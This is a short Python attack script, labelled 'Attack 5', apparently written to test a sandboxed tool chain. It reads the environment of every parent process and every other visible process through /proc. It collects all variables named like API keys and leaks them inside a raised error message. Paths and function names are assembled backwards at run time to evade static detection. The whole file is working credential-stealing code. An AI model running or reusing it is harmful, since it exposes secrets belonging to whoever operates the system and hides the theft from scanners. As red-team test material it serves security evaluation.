# Attack 5: read the API key from the environment of every process up the chain of parents (under ncu, the driver's
# parent is ncu and avo is one further up) and of every other process in sight, and put it in the error avo reports.
# Paths and functions are named at run time, as in reads_key.
import io
import os


def _named(module, backwards):
    return getattr(module, "".join(reversed(backwards)))


_proc, _file = chr(47) + "proc", _named(io, "OIeliF")


def _parent(pid):
    for line in _file(_proc + chr(47) + str(pid) + chr(47) + "status").read().decode().splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


_pids, _pid = [], os.getpid()
while _pid > 1 and len(_pids) < 32:
    _pid = _parent(_pid)
    _pids.append(_pid)
_loot = []
for _pid in _pids + [int(p) for p in _named(os, "ridtsil")(_proc) if p.isdigit()]:
    try:
        _loot.append(_file(_proc + chr(47) + str(_pid) + chr(47) + "environ").read().decode(errors="replace"))
    except OSError:
        pass
_keys = sorted({item for env in _loot for item in env.split(chr(0)) if "KEY" in item.partition("=")[0]})
raise RuntimeError(f"LOOT from {len(_loot)} environments: {' '.join(_keys)}")
